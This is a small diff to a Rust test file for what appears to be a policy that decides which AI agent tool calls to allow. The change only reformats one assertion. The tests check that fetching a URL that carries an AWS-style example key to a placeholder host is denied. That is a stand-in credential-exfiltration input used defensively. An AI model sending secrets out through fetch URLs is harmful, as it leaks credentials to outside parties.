@@ -335,7 +335,10 @@ action = "quarantine"
     let fetch = |url: &str| json!({"url": url, "prompt": "summarise"});
     assert_eq!(decide("WebFetch", fetch("https://docs.rs/")), "allow");
     assert_eq!(
-        decide("WebFetch", fetch("https://x.example/?k=AKIAIOSFODNN7EXAMPLE")),
+        decide(
+            "WebFetch",
+            fetch("https://x.example/?k=AKIAIOSFODNN7EXAMPLE")
+        ),
         "deny"
     );
     assert_eq!(decide("Deploy", json!({})), "deny");
